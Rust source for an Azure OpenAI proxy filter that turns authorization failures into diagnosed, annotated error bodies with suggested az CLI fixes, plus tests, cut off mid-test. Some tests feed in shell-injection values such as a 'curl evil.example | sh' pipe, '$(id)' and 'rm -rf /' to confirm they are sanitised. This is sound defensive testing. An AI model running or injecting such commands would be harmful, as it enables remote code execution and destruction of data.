//! Azure OpenAI's authorization failures, made to explain themselves.
//!
//! Only answers to requests the filter matched are looked at: anything else is
//! not ours and passes byte for byte. The upstream status and error code are
//! kept, so SDKs behave as before; the message gains the cause and the fix,
//! and `error` gains structured fields. The response header is chosen when the
//! headers pass, from what the filter knows then (the status, whether it sent
//! a token); the precise diagnosis needs the body and goes into
//! `error.diagnosis`. A body is held only when it will be rewritten, and never
//! beyond [`MAX_ERROR_BODY`]; otherwise it is copied as it passes, for the log.
//!
//! Everything copied from the upstream body, the token's claims or the
//! client's `Host` into a message, a log line or a command is validated first
//! ([`crate::safe`]).

use serde_json::{json, Map, Value};

use super::upstream::{UpstreamFailure, MAX_ERROR_BODY};
use crate::claims::Claims;
use crate::lifecycle::Replacement;
use crate::rewrite::host_without_port as strip_port;
use crate::safe;
use crate::source::Source;
use crate::wire;

pub use crate::diagnose::{diagnosis, header};

/// Roles that grant chat completions with a token (AZURE_FACTS.md §3).
pub const GRANTING_ROLES: [&str; 3] = [
    "Cognitive Services OpenAI User",
    "Cognitive Services OpenAI Contributor",
    "Cognitive Services User",
];

/// Roles that grant scoring an Azure ML online endpoint with a token
/// (`auth_mode: aad_token`): `…/onlineEndpoints/score/action` on the workspace.
pub const ML_GRANTING_ROLES: [&str; 1] = ["AzureML Data Scientist"];

/// Shown where a value from another party did not have the shape it must have.
pub mod placeholder {
    pub const PRINCIPAL: &str = "<principal id>";
    pub const RESOURCE_NAME: &str = "<resource name>";
    pub const HOST: &str = "<unprintable host>";
    pub const ACTION: &str = "the data action of this operation";
}

/// What the filter knows about a request it matched when its answer comes back.
#[derive(Debug, Clone, Copy)]
pub struct Facts<'a> {
    /// `:authority` as the application sent it.
    pub host: &'a str,
    /// Claims of the token the request carried, if it carried the filter's token.
    pub token: Option<&'a Claims>,
    /// Where the target's token comes from, to name the identity and its fix.
    pub source: Option<&'a Source>,
}

/// The header code for an answer with this status to a matched request that
/// did or did not carry the filter's token, or `None` when the filter does not
/// explain such an answer.
pub fn header_code(status: u16, with_token: bool) -> Option<&'static str> {
    match status {
        401 if with_token => Some(header::UPSTREAM_UNAUTHORIZED),
        403 => Some(header::UPSTREAM_FORBIDDEN),
        400 if with_token => Some(header::UPSTREAM_BAD_REQUEST),
        _ => None,
    }
}

/// How an error body is looked at.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BodyMode {
    /// Uncompressed JSON of at most [`MAX_ERROR_BODY`] bytes (or of unknown
    /// length): held until complete and rewritten with the explanation.
    Rewrite,
    /// Anything else: never held; the first [`MAX_ERROR_BODY`] bytes are
    /// copied as they pass, to explain the failure in the log.
    Observe,
}

impl BodyMode {
    /// Choose from the response headers' raw values.
    pub fn choose(
        content_type: Option<&[u8]>,
        content_encoding: Option<&[u8]>,
        content_length: Option<&[u8]>,
    ) -> BodyMode {
        let small = match content_length {
            None => true,
            Some(value) => wire::content_length(value).is_some_and(|n| n <= MAX_ERROR_BODY as u64),
        };
        if small && wire::is_json(content_type) && wire::is_identity(content_encoding) {
            BodyMode::Rewrite
        } else {
            BodyMode::Observe
        }
    }
}

/// What the glue does with one response body callback.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BodyStep {
    /// Keep buffering (a body to rewrite, not complete yet).
    Hold,
    /// Let this chunk go on.
    Pass,
    /// The body is complete: explain it (and rewrite it when `rewrite`).
    Explain { rewrite: bool },
}

/// An upstream error answer being looked at, body callback by body callback.
#[derive(Debug)]
pub struct Inspection {
    pub status: u16,
    pub mode: BodyMode,
    collected: Vec<u8>,
    /// Too large to explain: every later chunk just passes.
    gave_up: bool,
}

impl Inspection {
    pub fn new(status: u16, mode: BodyMode) -> Inspection {
        Inspection {
            status,
            mode,
            collected: Vec::new(),
            gave_up: false,
        }
    }

    /// How many bytes of the body buffer (`size` bytes now) the glue must read
    /// and hand to [`Inspection::body`].
    pub fn wants(&self, size: usize, end_of_stream: bool) -> usize {
        if self.gave_up {
            return 0;
        }
        match self.mode {
            BodyMode::Rewrite if end_of_stream && size <= MAX_ERROR_BODY => size,
            BodyMode::Rewrite => 0,
            BodyMode::Observe => {
                size.min(MAX_ERROR_BODY + 1 - self.collected.len().min(MAX_ERROR_BODY + 1))
            }
        }
    }

    /// The body callback: `chunk` is what [`Inspection::wants`] asked for,
    /// `size` the whole buffer.
    pub fn body(&mut self, chunk: &[u8], size: usize, end_of_stream: bool) -> BodyStep {
        if self.gave_up {
            return BodyStep::Pass;
        }
        match self.mode {
            BodyMode::Rewrite => {
                if size > MAX_ERROR_BODY {
                    // Larger than any error Azure sends: let it all go, untouched.
                    self.gave_up = true;
                    BodyStep::Pass
                } else if !end_of_stream {
                    BodyStep::Hold
                } else {
                    self.collected = chunk.to_vec();
                    BodyStep::Explain { rewrite: true }
                }
            }
            BodyMode::Observe => {
                self.collected.extend_from_slice(chunk);
                if self.collected.len() > MAX_ERROR_BODY {
                    self.gave_up = true;
                    self.collected = Vec::new();
                    BodyStep::Pass
                } else if end_of_stream {
                    BodyStep::Explain { rewrite: false }
                } else {
                    BodyStep::Pass
                }
            }
        }
    }

    /// The body as read, once [`BodyStep::Explain`] was returned.
    pub fn collected(&self) -> &[u8] {
        &self.collected
    }
}

/// The explanation of one upstream failure.
#[derive(Debug, Clone, PartialEq)]
pub struct Annotation {
    pub diagnosis: &'static str,
    pub explanation: String,
    pub fields: Map<String, Value>,
}

impl Annotation {
    /// `key=value` pairs for the log line: identities and the fix, no secrets;
    /// every value was validated when the annotation was made.
    pub fn log_line(&self, status: u16, host: &str) -> String {
        let mut line = format!(
            "upstream {status} from {}: diagnosis={} ",
            safe::or(Some(host), safe::host, placeholder::HOST),
            self.diagnosis
        );
        for key in [
            "principal_id",
            "client_id",
            "token_audience",
            "expected_audience",
        ] {
            if let Some(Value::String(v)) = self.fields.get(key) {
                line.push_str(&format!("{key}={v} "));
            }
        }
        line.push_str(&format!("fix: {}", self.explanation));
        line
    }
}

/// The identity in a token's claims, each value validated or left out.
fn identity_fields(claims: &Claims, fields: &mut Map<String, Value>) {
    let checked = [
        ("principal_id", claims.oid.as_deref().and_then(safe::guid)),
        ("client_id", claims.client_id().and_then(safe::guid)),
        (
            "identity_resource_id",
            claims.xms_mirid.as_deref().and_then(safe::resource_id),
        ),
        ("tenant_id", claims.tid.as_deref().and_then(safe::guid)),
    ];
    for (key, value) in checked {
        if let Some(v) = value {
            fields.insert(key.into(), json!(v));
        }
    }
}

/// Explain `failure`. `resource` is the audience the filter asks for;
/// `replacement` says what became of the token when this answer rejected it
/// (see `Agent::invalidate`).
pub fn explain(
    failure: &UpstreamFailure,
    facts: &Facts<'_>,
    resource: &str,
    now_ms: u64,
    replacement: Option<Replacement>,
) -> Annotation {
    let mut fields = Map::new();
    let claims = facts.token.cloned().unwrap_or_default();
    match failure {
        UpstreamFailure::PermissionDenied {
            principal,
            data_action,
        } => {
            identity_fields(&claims, &mut fields);
            // The principal Azure names, else the token's own; a GUID or nothing.
            let oid = principal
                .as_deref()
                .and_then(safe::guid)
                .or_else(|| claims.oid.as_deref().and_then(safe::guid));
            let who = describe_identity(oid, &claims);
            let noun = facts.source.map_or("identity", Source::identity_noun);
            let action = safe::or(data_action.as_deref(), safe::data_action, placeholder::ACTION);
            let assignee = oid.unwrap_or(placeholder::PRINCIPAL);
            let assign = format!(
                "az role assignment create --assignee-object-id {assignee} --assignee-principal-type ServicePrincipal"
            );
            let machine_learning = action.starts_with("Microsoft.MachineLearningServices/")
                || strip_port(facts.host)
                    .trim_end_matches('.')
                    .to_ascii_lowercase()
                    .ends_with(".inference.ml.azure.com");
            let (roles, command, grant): (&[&str], String, &str) = if machine_learning {
                (
                    &ML_GRANTING_ROLES,
                    format!(
                        "{assign} --role \"AzureML Data Scientist\" --scope $(az ml workspace show --name <workspace> \
                         --resource-group <resource group> --query id --output tsv)"
                    ),
                    "Grant it AzureML Data Scientist on the endpoint's workspace (or a custom role with \
                     Microsoft.MachineLearningServices/workspaces/onlineEndpoints/score/action)",
                )
            } else {
                let resource = resource_name(facts.host);
                (
                    &GRANTING_ROLES,
                    format!(
                        "{assign} --role \"Cognitive Services OpenAI User\" --scope $(az cognitiveservices account show \
                         --name {resource} --resource-group <resource group> --query id --output tsv)"
                    ),
                    "Grant it Cognitive Services OpenAI User (or OpenAI Contributor, or Cognitive Services User; \
                     Cognitive Services Contributor has no data actions and does not help)",
                )
            };
            fields.insert("data_action".into(), json!(action));
            fields.insert("roles_that_grant_it".into(), json!(roles));
            fields.insert("fix_command".into(), json!(command));
            Annotation {
                diagnosis: diagnosis::ROLE_MISSING,
                explanation: format!(
                    "the {noun} ({who}) has no role on this resource that allows `{action}`. {grant}: \
                     {command}. A new role assignment can take minutes to hours to reach a token."
                ),
                fields,
            }
        }
        UpstreamFailure::TokenRejected { expected_audience } => {
            identity_fields(&claims, &mut fields);
            let now_s = now_ms / 1000;
            let mut wrong = Vec::new();
            // The resource says which audience it accepts; else trust the configuration.
            let expected = expected_audience
                .as_deref()
                .and_then(safe::audience)
                .unwrap_or(resource);
            fields.insert("expected_audience".into(), json!(expected));
            if let Some(aud) = claims.aud.as_deref().and_then(safe::audience) {
                fields.insert("token_audience".into(), json!(aud));
                if !crate::token::same_audience(aud, expected) {
                    wrong.push(format!(
                        "the token's audience is \"{aud}\" but this resource accepts \"{expected}\": \
                         set resource to \"{expected}\" (it is \"{resource}\")"
                    ));
                }
            }
            if let Some(exp) = claims.exp {
                fields.insert("token_expires_at".into(), json!(exp));
                if exp <= now_s {
                    wrong.push(format!(
                        "the token expired {} s ago by this proxy's clock; check the clock",
                        now_s - exp
                    ));
                }
            }
            if let Some(nbf) = claims.nbf {
                fields.insert("token_not_before".into(), json!(nbf));
                if nbf > now_s + 300 {
                    wrong.push(format!(
                        "the token is not valid for another {} s by this proxy's clock; check the clock",
                        nbf - now_s
                    ));
                }
            }
            if wrong.is_empty() {
                wrong.push(format!(
                    "its audience and lifetime look right, so Azure refused its signature or tenant{}: \
                     a managed identity can only reach resources in its own tenant",
                    claims
                        .tid
                        .as_deref()
                        .and_then(safe::guid)
                        .map(|t| format!(" (token tenant {t})"))
                        .unwrap_or_default()
                ));
            }
            let (state, action) = replacement_text(replacement);
            fields.insert("token_replacement".into(), json!(state));
            Annotation {
                diagnosis: diagnosis::TOKEN_REJECTED,
                explanation: format!("Azure OpenAI did not accept the token: {}. {action}", wrong.join("; ")),
                fields,
            }
        }
        UpstreamFailure::KeyAuthDisabled => Annotation {
            diagnosis: diagnosis::KEY_AUTH_DISABLED,
            explanation: "the request left with a key although the filter matched it and removed its \
                          api-key: another filter or the route adds the api-key after aoai-msi-filter. Place \
                          aoai-msi-filter after any filter that sets headers, right before the router."
                .to_owned(),
            fields,
        },
        UpstreamFailure::NetworkRule => Annotation {
            diagnosis: diagnosis::NETWORK_RULE,
            explanation: "this is not an identity problem: the resource's networking rules (firewall, virtual \
                          network, private endpoint) refuse this proxy's address. Allow it under the resource's \
                          Networking settings, or reach the resource through its private endpoint."
                .to_owned(),
            fields,
        },
        UpstreamFailure::TenantMismatch { token_tenant } => {
            identity_fields(&claims, &mut fields);
            let from_claims = claims.tid.as_deref().and_then(safe::guid);
            let from_message = token_tenant.as_deref().and_then(safe::guid);
            let tenant = from_claims.or(from_message).unwrap_or("<token tenant>");
            fields.insert("token_tenant".into(), json!(tenant));
            let also = match (from_claims, from_message) {
                (Some(c), Some(m)) if !c.eq_ignore_ascii_case(m) => {
                    fields.insert("message_tenant".into(), json!(m));
                    format!(" (Azure's message names tenant {m})")
                }
                _ => String::new(),
            };
            let resource_tenant = "Find the resource's tenant with `az account show --subscription <the \
                                   resource's subscription> --query tenantId --output tsv`";
            let fix = match facts.source.and_then(|s| s.application().map(|a| (s, a))) {
                Some((source, (client, configured))) => {
                    let client = safe::or(Some(client), safe::guid, "<client id>");
                    let configured = safe::or(Some(configured), safe::tenant, "<tenant id>");
                    format!(
                        "the filter signs in as the {} of application {client} in tenant {configured} \
                         (token_source.tenant_id, or AZURE_TENANT_ID). Set tenant_id to the resource's tenant; a \
                         multi-tenant application also needs a service principal there (`az ad sp create --id \
                         {client}` in that tenant) holding the role on the resource. {resource_tenant}.",
                        source.identity_noun()
                    )
                }
                None => format!(
                    "a managed identity receives tokens only from its own tenant, so it can never reach this \
                     resource. Use an identity of the resource's tenant: a managed identity of a machine there, \
                     or a service principal registered there (token_source type client_credentials with \
                     tenant_id set to it). {resource_tenant}."
                ),
            };
            Annotation {
                diagnosis: diagnosis::TENANT_MISMATCH,
                explanation: format!(
                    "the token is from tenant {tenant}{also}, and this resource belongs to another tenant: {fix}"
                ),
                fields,
            }
        }
        UpstreamFailure::KeyRejected => {
            let service = match facts.source.and_then(|s| s.inner().credential_service()) {
                Some((authority, path, cluster)) => format!(
                    "the credential service (GET {}{} via cluster \"{}\")",
                    safe::or(Some(authority), safe::host, placeholder::HOST),
                    safe::free_text(&safe::path_shown(path), 200),
                    safe::free_text(cluster, 200)
                ),
                None => "the credential service".to_owned(),
            };
            let (state, action) = replacement_text(replacement);
            fields.insert("token_replacement".into(), json!(state));
            Annotation {
                diagnosis: diagnosis::KEY_REJECTED,
                explanation: format!(
                    "the resource refused the api-key that {service} handed out: it is not a current key of this \
                     resource, or the request reached another resource. If the key was just regenerated, the \
                     service must hand out the new one (`az cognitiveservices account keys list`). {action}"
                ),
                fields,
            }
        }
        UpstreamFailure::SubdomainRequired => Annotation {
            diagnosis: diagnosis::CUSTOM_SUBDOMAIN_REQUIRED,
            explanation: format!(
                "this is not an identity problem: Entra ID tokens are accepted only on the resource's custom \
                 subdomain (https://<resource>.openai.azure.com), not on \"{}\". Point the application at the \
                 custom subdomain endpoint.",
                safe::or(Some(strip_port(facts.host)), safe::host, placeholder::HOST)
            ),
            fields,
        },
    }
}

/// `token_replacement` and the sentence that says what the filter does.
fn replacement_text(replacement: Option<Replacement>) -> (&'static str, String) {
    match replacement {
        Some(Replacement::Requested) | Some(Replacement::Pending) => (
            "requested",
            "The filter is fetching one replacement; the current credential serves until it arrives."
                .to_owned(),
        ),
        Some(Replacement::SameTokenReturned { again_in_ms }) => (
            "same_token_returned",
            format!(
                "Asked for a new token, the token endpoint returned the same one (managed identity endpoints \
                 cache tokens for hours), so refetching cannot help: fix the cause above. The filter asks again \
                 in {} s.",
                again_in_ms.div_ceil(1000)
            ),
        ),
        Some(Replacement::RateLimited { again_in_ms }) => (
            "rate_limited",
            format!(
                "The filter asked for a new token less than invalidation_interval_ms ago; it asks again in {} s.",
                again_in_ms.div_ceil(1000)
            ),
        ),
        Some(Replacement::AlreadyReplaced) => (
            "already_replaced",
            "The filter has a newer token already; retry the request.".to_owned(),
        ),
        None => ("none", "The request did not carry the filter's token.".to_owned()),
    }
}

fn describe_identity(oid: Option<&str>, claims: &Claims) -> String {
    let mut parts = Vec::new();
    if let Some(oid) = oid {
        parts.push(format!("principal id {oid}"));
    }
    if let Some(client) = claims.client_id().and_then(safe::guid) {
        parts.push(format!("client id {client}"));
    }
    if let Some(mirid) = claims.xms_mirid.as_deref().and_then(safe::resource_id) {
        parts.push(mirid.to_owned());
    }
    if parts.is_empty() {
        "identity unknown".to_owned()
    } else {
        parts.join(", ")
    }
}

/// `myres.openai.azure.com` → `myres`; a host that is not a resource's own
/// name (an IP, `localhost`, anything that is not one DNS label before a known
/// suffix) names no resource. The result goes into a shell command.
fn resource_name(host: &str) -> &str {
    let host = strip_port(host);
    let host = host.strip_suffix('.').unwrap_or(host);
    crate::azure::host(host)
        .map(|(name, _, _)| name)
        .and_then(safe::dns_label)
        .unwrap_or(placeholder::RESOURCE_NAME)
}

/// Rewrite an upstream JSON error body: keep its code, extend its message,
/// add the diagnosis, the target and fields. `None` when the body is not JSON.
pub fn annotated_body(original: &[u8], annotation: &Annotation, target: &str) -> Option<String> {
    let mut body: Value = serde_json::from_slice(original).ok()?;
    let top = body.as_object_mut()?;
    let mut error = match top.remove("error") {
        Some(Value::Object(error)) => error,
        // The gateway's `{"statusCode":401,"message":…}` has no error object.
        _ => {
            let mut error = Map::new();
            let code = top.get("statusCode").map_or_else(String::new, |c| match c {
                Value::String(s) => s.clone(),
                other => other.to_string(),
            });
            error.insert("code".into(), json!(code));
            if let Some(message) = top.get("message") {
                error.insert("message".into(), message.clone());
            }
            error
        }
    };
    let message = error
        .get("message")
        .and_then(Value::as_str)
        .unwrap_or_default()
        .to_owned();
    error.insert(
        "message".into(),
        json!(format!(
            "{message} [aoai-msi-filter] {}",
            annotation.explanation
        )),
    );
    error.insert("diagnosis".into(), json!(annotation.diagnosis));
    error.insert("source_annotation".into(), json!("aoai-msi-filter"));
    error.insert("target".into(), json!(target));
    for (key, value) in &annotation.fields {
        error.insert(key.clone(), value.clone());
    }
    top.insert("error".into(), Value::Object(error));
    Some(body.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    const NOW_MS: u64 = 1_763_752_300_000;
    const RES: &str = "https://cognitiveservices.azure.com";
    const OID: &str = "0b5e7c4a-0000-4000-8000-0000000000a1";
    const CLIENT: &str = "a1b2c3d4-0000-4000-8000-000000000001";
    const TENANT: &str = "72f988bf-0000-4000-8000-00000000e1a0";
    const MIRID: &str =
        "/subscriptions/s/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1";

    fn claims() -> Claims {
        Claims {
            aud: Some("https://cognitiveservices.azure.com".into()),
            tid: Some(TENANT.into()),
            oid: Some(OID.into()),
            appid: Some(CLIENT.into()),
            xms_mirid: Some(MIRID.into()),
            exp: Some(NOW_MS / 1000 + 3600),
            nbf: Some(NOW_MS / 1000 - 10),
            ..Claims::default()
        }
    }

    fn matched(claims: &Claims) -> Facts<'_> {
        Facts {
            host: "myres.openai.azure.com",
            token: Some(claims),
            source: None,
        }
    }

    fn role_missing(principal: &str, action: &str, host: &str) -> Annotation {
        let c = claims();
        explain(
            &UpstreamFailure::PermissionDenied {
                principal: Some(principal.into()),
                data_action: Some(action.into()),
            },
            &Facts {
                host,
                token: Some(&c),
                source: None,
            },
            RES,
            NOW_MS,
            None,
        )
    }

    const CHAT_ACTION: &str =
        "Microsoft.CognitiveServices/accounts/OpenAI/deployments/chat/completions/action";

    #[test]
    fn header_codes_follow_status_and_what_the_filter_sent() {
        assert_eq!(header_code(401, true), Some(header::UPSTREAM_UNAUTHORIZED));
        assert_eq!(header_code(403, true), Some(header::UPSTREAM_FORBIDDEN));
        assert_eq!(header_code(400, true), Some(header::UPSTREAM_BAD_REQUEST));
        assert_eq!(header_code(403, false), Some(header::UPSTREAM_FORBIDDEN));
        assert_eq!(
            header_code(401, false),
            None,
            "a 401 to the app's own key is the app's"
        );
        assert_eq!(header_code(400, false), None);
        assert_eq!(header_code(200, true), None);
        assert_eq!(header_code(429, true), None);
    }

    #[test]
    fn role_missing_names_the_identity_the_roles_and_the_command() {
        let a = role_missing(OID, CHAT_ACTION, "myres.openai.azure.com");
        assert_eq!(a.diagnosis, diagnosis::ROLE_MISSING);
        for needle in [
            &format!("principal id {OID}"),
            &format!("client id {CLIENT}"),
            MIRID,
            "Cognitive Services OpenAI User",
            "Cognitive Services Contributor has no data actions",
            &format!("az role assignment create --assignee-object-id {OID}"),
            "--name myres",
            "minutes to hours",
            "chat/completions/action",
        ] {
            assert!(
                a.explanation.contains(needle),
                "{needle}: {}",
                a.explanation
            );
        }
        assert_eq!(a.fields["principal_id"], OID);
        assert_eq!(
            a.fields["roles_that_grant_it"][0],
            "Cognitive Services OpenAI User"
        );
    }

    #[test]
    fn permission_denied_without_a_principal_names_the_one_in_the_token() {
        let c = claims();
        let a = explain(
            &UpstreamFailure::PermissionDenied {
                principal: None,
                data_action: None,
            },
            &matched(&c),
            RES,
            NOW_MS,
            None,
        );
        assert_eq!(a.diagnosis, diagnosis::ROLE_MISSING);
        assert!(
            a.explanation.contains(&format!("principal id {OID}")),
            "{}",
            a.explanation
        );
        assert!(
            a.explanation.contains(placeholder::ACTION),
            "{}",
            a.explanation
        );
        assert!(
            a.fields["fix_command"]
                .as_str()
                .unwrap()
                .contains(&format!("--assignee-object-id {OID}")),
            "{a:?}"
        );
    }

    /// A service principal's source, as the configuration builds it.
    fn service_principal() -> Source {
        let env = |name: &str| match name {
            "AZURE_CLIENT_SECRET" => Some("not-shown".to_owned()),
            _ => None,
        };
        let config = crate::config::Config::parse_with_env(
            br#"{"hosts":["myres.openai.azure.com"],"token_source":{"type":"client_credentials",
                "tenant_id":"contoso.onmicrosoft.com","client_id":"a1b2c3d4-0000-4000-8000-000000000009"}}"#,
            &env,
        )
        .unwrap();
        config.tokens[0].source.clone()
    }

    #[test]
    fn a_token_from_another_tenant_names_the_tenant_and_which_identity_can_reach_the_resource() {
        let c = claims();
        let failure = UpstreamFailure::TenantMismatch {
            token_tenant: Some(TENANT.into()),
        };
        let managed = explain(&failure, &matched(&c), RES, NOW_MS, None);
        assert_eq!(managed.diagnosis, diagnosis::TENANT_MISMATCH);
        assert_eq!(managed.fields["token_tenant"], TENANT);
        for needle in [
            &format!("the token is from tenant {TENANT}"),
            "managed identity receives tokens only from its own tenant",
            "client_credentials",
            "az account show",
        ] {
            assert!(
                managed.explanation.contains(needle),
                "{needle}: {}",
                managed.explanation
            );
        }

        let source = service_principal();
        let facts = Facts {
            source: Some(&source),
            ..matched(&c)
        };
        let sp = explain(&failure, &facts, RES, NOW_MS, None);
        for needle in [
            "service principal of application a1b2c3d4-0000-4000-8000-000000000009",
            "in tenant contoso.onmicrosoft.com",
            "Set tenant_id to the resource's tenant",
            "az ad sp create --id a1b2c3d4-0000-4000-8000-000000000009",
        ] {
            assert!(
                sp.explanation.contains(needle),
                "{needle}: {}",
                sp.explanation
            );
        }
        assert!(!format!("{sp:?}").contains("not-shown"));

        // The message and the token disagree: both are named.
        let other = "99999999-0000-4000-8000-000000000000";
        let both = explain(
            &UpstreamFailure::TenantMismatch {
                token_tenant: Some(other.into()),
            },
            &matched(&c),
            RES,
            NOW_MS,
            None,
        );
        assert!(
            both.explanation.contains(TENANT) && both.explanation.contains(other),
            "{}",
            both.explanation
        );
        // Hostile text in the message never reaches the explanation.
        let hostile = explain(
            &UpstreamFailure::TenantMismatch {
                token_tenant: Some("$(reboot)".into()),
            },
            &Facts {
                host: "myres.openai.azure.com",
                token: None,
                source: None,
            },
            RES,
            NOW_MS,
            None,
        );
        assert!(
            !hostile.explanation.contains("reboot"),
            "{}",
            hostile.explanation
        );
        assert!(hostile.explanation.contains("<token tenant>"));
    }

    #[test]
    fn a_missing_scoring_role_names_the_azure_ml_role_and_the_workspace() {
        let a = role_missing(
            OID,
            "Microsoft.MachineLearningServices/workspaces/onlineEndpoints/score/action",
            "my-endpoint.eastus2.inference.ml.azure.com",
        );
        assert_eq!(a.fields["roles_that_grant_it"][0], "AzureML Data Scientist");
        for needle in [
            "AzureML Data Scientist",
            "onlineEndpoints/score/action",
            "az ml workspace show",
            &format!("--assignee-object-id {OID}"),
        ] {
            assert!(
                a.explanation.contains(needle),
                "{needle}: {}",
                a.explanation
            );
        }
        assert!(!a.explanation.contains("OpenAI User"), "{}", a.explanation);
    }

    #[test]
    fn hostile_text_never_reaches_the_suggested_command() {
        // What an upstream body and a client's Host could put there.
        let a = role_missing(
            "x`; curl evil.example | sh`",
            "Microsoft.X/$(id)/action",
            "$(id).openai.azure.com",
        );
        let command = a.fields["fix_command"].as_str().unwrap();
        for bad in ["`", "$(id)", "curl", "evil"] {
            assert!(
                !command.replace("$(az ", "").contains(bad),
                "{bad}: {command}"
            );
        }
        for bad in ["$(id)", "curl", "evil"] {
            assert!(!a.explanation.contains(bad), "{bad}: {}", a.explanation);
        }
        // The token's own principal stands in for the unusable one.
        assert!(
            command.contains(&format!("--assignee-object-id {OID}")),
            "{command}"
        );
        assert!(command.contains("--name <resource name>"), "{command}");
        assert_eq!(a.fields["data_action"], placeholder::ACTION);
        // With no usable principal anywhere, a placeholder.
        let c = Claims::default();
        let a = explain(
            &UpstreamFailure::PermissionDenied {
                principal: Some("not-a-guid".into()),
                data_action: None,
            },
            &Facts {
                host: "myres.openai.azure.com",
                token: Some(&c),
                source: None,
            },
            RES,
            NOW_MS,
            None,
        );
        assert!(a.fields["fix_command"]
            .as_str()
            .unwrap()
            .contains("--assignee-object-id <principal id>"));
    }

    #[test]
    fn claims_that_are_not_what_they_claim_to_be_are_left_out() {
        let mut c = claims();
        c.oid = Some("$(id)".into());
        c.appid = Some("a\nb".into());
        c.xms_mirid = Some("/subscriptions/x; rm -rf /".into());
        c.tid = Some("evil".into());
        let a = explain(
            &UpstreamFailure::TokenRejected {
                expected_audience: Some("https://x\" || id".into()),
            },
            &matched(&c),
            RES,
            NOW_MS,
            Some(Replacement::Requested),
        );
        for key in [
            "principal_id",
            "client_id",
            "identity_resource_id",
            "tenant_id",
        ] {
            assert!(!a.fields.contains_key(key), "{key}: {:?}", a.fields);
        }
        assert_eq!(
            a.fields["expected_audience"],
            "https://cognitiveservices.azure.com"
        );
        let line = a.log_line(401, "$(id).openai.azure.com\r\nx");
        assert!(!line.contains("$(id)") && !line.contains('\n'), "{line}");
        assert!(line.contains(placeholder::HOST), "{line}");
    }

    #[test]
    fn rejected_token_says_which_claim_is_wrong_and_that_a_replacement_comes() {
        let mut c = claims();
        c.aud = Some("https://management.azure.com".into());
        c.exp = Some(NOW_MS / 1000 - 30);
        let config = "https://management.azure.com";
        let rejected = UpstreamFailure::TokenRejected {
            expected_audience: Some("https://cognitiveservices.azure.com".into()),
        };
        let a = explain(
            &rejected,
            &matched(&c),
            config,
            NOW_MS,
            Some(Replacement::Requested),
        );
        assert_eq!(a.diagnosis, diagnosis::TOKEN_REJECTED);
        assert!(
            a.explanation.contains(
                "audience is \"https://management.azure.com\" but this resource accepts \"https://cognitiveservices.azure.com\": set resource to \"https://cognitiveservices.azure.com\""
            ),
            "{}",
            a.explanation
        );
        assert!(
            a.explanation.contains("expired 30 s ago"),
            "{}",
            a.explanation
        );
        assert!(a.explanation.contains("fetching one replacement;"));
        assert_eq!(a.fields["token_replacement"], "requested");
    }

    #[test]
    fn the_same_token_coming_back_is_said_plainly() {
        let c = claims();
        let a = explain(
            &UpstreamFailure::TokenRejected {
                expected_audience: None,
            },
            &matched(&c),
            RES,
            NOW_MS,
            Some(Replacement::SameTokenReturned {
                again_in_ms: 41_500,
            }),
        );
        assert_eq!(a.fields["token_replacement"], "same_token_returned");
        assert!(
            a.explanation.contains("returned the same one"),
            "{}",
            a.explanation
        );
        assert!(
            a.explanation.contains("asks again in 42 s"),
            "{}",
            a.explanation
        );
    }

    #[test]
    fn rejected_token_with_sound_claims_points_at_signature_or_tenant() {
        let c = claims();
        let a = explain(
            &UpstreamFailure::TokenRejected {
                expected_audience: None,
            },
            &matched(&c),
            RES,
            NOW_MS,
            Some(Replacement::RateLimited { again_in_ms: 1_000 }),
        );
        assert!(
            a.explanation.contains("signature or tenant"),
            "{}",
            a.explanation
        );
        assert!(a.explanation.contains(TENANT));
        assert!(a
            .explanation
            .contains("less than invalidation_interval_ms ago"));
    }

    #[test]
    fn a_key_reaching_azure_on_a_matched_request_points_at_a_later_filter() {
        let a = explain(
            &UpstreamFailure::KeyAuthDisabled,
            &Facts {
                host: "myres.openai.azure.com",
                token: None,
                source: None,
            },
            RES,
            NOW_MS,
            None,
        );
        assert_eq!(a.diagnosis, diagnosis::KEY_AUTH_DISABLED);
        assert!(
            a.explanation.contains("right before the router"),
            "{}",
            a.explanation
        );
    }

    #[test]
    fn only_a_resources_own_name_names_a_resource() {
        assert_eq!(resource_name("127.0.0.1:10000"), "<resource name>");
        assert_eq!(resource_name("myres.openai.azure.com:443"), "myres");
        assert_eq!(resource_name("MyRes.OpenAI.Azure.com."), "MyRes");
        assert_eq!(resource_name("proj.services.ai.azure.com"), "proj");
        assert_eq!(resource_name("a.b.openai.azure.com"), "<resource name>");
        assert_eq!(
            resource_name("openai.azure.com.evil.example"),
            "<resource name>"
        );
    }

    #[test]
    fn network_and_subdomain_refusals_are_not_identity_problems() {
        let c = claims();
        for failure in [
            UpstreamFailure::NetworkRule,
            UpstreamFailure::SubdomainRequired,
        ] {
            let a = explain(&failure, &matched(&c), RES, NOW_MS, None);
            assert!(
                a.explanation.starts_with("this is not an identity problem"),
                "{}",
                a.explanation
            );
        }
    }

    #[test]
    fn annotated_bodies_keep_the_upstream_code_and_message() {
        let c = claims();
        let a = explain(
            &UpstreamFailure::NetworkRule,
            &matched(&c),
            RES,
            NOW_MS,
            None,
        );
        let original = br#"{"error":{"code":"403","message":"Access denied due to Virtual Network/Firewall rules."}}"#;
        let body: Value =
            serde_json::from_str(&annotated_body(original, &a, "default").unwrap()).unwrap();
        assert_eq!(body["error"]["code"], "403");
        let message = body["error"]["message"].as_str().unwrap();
        assert!(message.starts_with(
            "Access denied due to Virtual Network/Firewall rules. [aoai-msi-filter] this is not"
        ));
        assert_eq!(body["error"]["diagnosis"], "NetworkRule");
        assert_eq!(body["error"]["target"], "default");

        let gateway = br#"{"statusCode": 401, "message": "Unauthorized. Access token is missing, invalid, audience is incorrect (https://cognitiveservices.azure.com), or have expired."}"#;
        let a = explain(
            &UpstreamFailure::TokenRejected {
                expected_audience: None,
            },
            &matched(&c),
            RES,
            NOW_MS,
            None,
        );
        let body: Value =
            serde_json::from_str(&annotated_body(gateway, &a, "default").unwrap()).unwrap();
        assert_eq!(body["statusCode"], 401, "the original shape stays");
        assert_eq!(body["error"]["code"], "401");
        assert!(body["error"]["message"]
            .as_str()
            .unwrap()
            .starts_with("Unauthorized. Access token is missing"));
        assert_eq!(annotated_body(b"<html>", &a, "default"), None);
    }

    #[test]
    fn the_readme_documents_every_code() {
        let readme = include_str!("../../README.md");
        let headers = [
            header::UPSTREAM_UNAUTHORIZED,
